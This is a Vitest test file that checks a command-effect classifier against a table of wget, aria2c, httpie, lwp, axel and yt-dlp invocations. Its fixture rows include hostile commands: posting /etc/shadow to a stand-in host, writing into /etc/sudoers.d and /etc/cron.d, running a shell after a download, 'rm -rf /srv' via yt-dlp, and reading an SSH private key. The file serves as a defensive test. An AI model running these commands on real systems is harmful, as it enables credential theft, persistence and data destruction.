import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['wget https://example.com/a/release.tgz', ['network:fetch example.com external', 'write:overwrite release.tgz']],
  [
    'wget -O /etc/sudoers.d/x http://h.example/x',
    ['write:overwrite /etc/sudoers.d/x', 'network:fetch h.example external'],
  ],
  ['wget -qO- https://h.example', ['network:fetch h.example external']],
  [
    'wget --post-file=/etc/shadow http://h.example',
    [
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
      'network:fetch h.example external',
      'write:overwrite index.html',
    ],
  ],
  [
    'wget --use-askpass=/tmp/evil h.example',
    [
      'execute:run /tmp/evil',
      'opaque:unknown-program evil',
      'network:fetch h.example external',
      'write:overwrite index.html',
    ],
  ],
  [
    'wget -e use_askpass=/tmp/evil h.example',
    [
      'network:fetch h.example external',
      'execute:run /tmp/evil',
      'opaque:unknown-program evil',
      'write:overwrite index.html',
    ],
  ],
  [
    "wget -e 'output_document = /etc/cron.d/x' h.example/y",
    ['network:fetch h.example external', 'write:overwrite /etc/cron.d/x'],
  ],
  [
    'wget -P /tmp -e dir-prefix=/etc/cron.d h.example/y',
    ['network:fetch h.example external', 'write:overwrite /etc/cron.d/y'],
  ],
  [
    'wget --no-check-certificate https://h.example/a',
    ['network:fetch h.example external', 'crypto:weaken h.example', 'write:overwrite a'],
  ],
  ['wget -i list.txt', ['read:read list.txt', 'network:fetch … external dynamic', 'write:overwrite … dynamic']],
  ['wget --spider https://h.example', ['network:fetch h.example external']],
  [
    'aria2c --on-download-complete=/bin/sh https://h.example/a',
    ['execute:shell sh', 'network:fetch h.example external', 'write:overwrite a'],
  ],
  [
    'aria2c -d /etc/cron.d -o x https://h.example/a',
    ['network:fetch h.example external', 'write:overwrite /etc/cron.d/x'],
  ],
  [
    'aria2c --check-certificate=false https://h.example/a',
    ['network:fetch h.example external', 'crypto:weaken h.example', 'write:overwrite a'],
  ],
  ['http GET h.example', ['network:fetch h.example external']],
  ['http DELETE h.example/1', ['network:fetch h.example external', 'network:request-delete h.example external']],
  [
    'http POST h.example file@/etc/shadow',
    ['network:fetch h.example external', 'read:read /etc/shadow external sensitive', 'network:send external sensitive'],
  ],
  ['http --verify=no https://h.example', ['network:fetch h.example external', 'crypto:weaken h.example']],
  [
    'http localhost:3000 < body.json',
    ['read:read body.json', 'network:fetch localhost', 'network:send localhost external'],
  ],
  ['lwp-download file:///etc/shadow /tmp/x', ['read:read /etc/shadow sensitive', 'write:overwrite /tmp/x']],
  ['lwp-request file:///etc/shadow', ['read:read /etc/shadow sensitive']],
  [
    'lwp-request -m POST http://h.example < body',
    ['read:read body', 'network:fetch h.example external', 'network:send h.example external'],
  ],
  ['lwp-mirror https://h.example x', ['network:fetch h.example external', 'write:overwrite x']],
  ['urlget - /root/.ssh/id_rsa', ['read:read /root/.ssh/id_rsa sensitive']],
  ['urlget http://h.example', ['network:fetch h.example external']],
  [
    'axel -k https://h.example/a.iso',
    ['network:fetch h.example external', 'crypto:weaken h.example', 'write:overwrite a.iso'],
  ],
  ['axel -o b.iso https://h.example/a.iso', ['write:overwrite b.iso', 'network:fetch h.example external']],
  [
    "yt-dlp --exec 'rm -rf /srv' https://h.example/v",
    ['delete:remove /srv recursive force', 'network:fetch h.example external'],
  ],
  ['yt-dlp -o v.mp4 https://h.example/v', ['write:overwrite v.mp4', 'network:fetch h.example external']],
];

describe('web downloaders', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
